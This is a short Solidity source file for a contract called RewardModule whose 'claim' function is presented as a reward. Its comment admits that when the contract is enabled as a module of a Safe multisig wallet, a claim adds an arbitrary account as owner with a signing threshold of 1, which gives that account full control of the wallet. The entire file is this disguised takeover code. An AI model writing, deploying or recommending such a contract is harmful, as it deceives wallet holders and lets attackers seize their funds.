// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface Safe {
    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 operation) external returns (bool);
}

/// Calls itself a reward. Where it is a module of the Safe that claims, it makes another account an owner.
contract RewardModule {
    function claim(address owner) external {
        bytes memory data = abi.encodeWithSignature("addOwnerWithThreshold(address,uint256)", owner, 1);
        Safe(msg.sender).execTransactionFromModule(msg.sender, 0, data, 0);
    }
}
